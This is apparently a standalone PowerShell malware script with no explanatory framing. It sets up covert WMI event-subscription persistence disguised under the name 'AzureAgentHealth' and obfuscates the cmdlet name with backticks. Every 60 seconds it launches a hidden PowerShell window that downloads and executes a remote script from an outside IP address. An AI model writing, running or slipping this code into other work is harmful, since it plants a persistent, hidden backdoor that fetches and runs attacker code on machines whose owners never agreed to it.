# init 5564 v2
$filter = Set-`Wm`i`Instan`ce -Namespace root\subscription -Class __EventFilter -Arguments @{Name='AzureAgentHealth';EventNameSpace='root\cimv2';QueryLanguage='WQL';Query="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
$consumer = Set-Wm`i`In`stance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{Name='AzureAgentHealth';CommandLineTemplate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/update.ps1')"}
Set-`Wm`i`In`stance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{Filter=$filter;Consumer=$consumer}
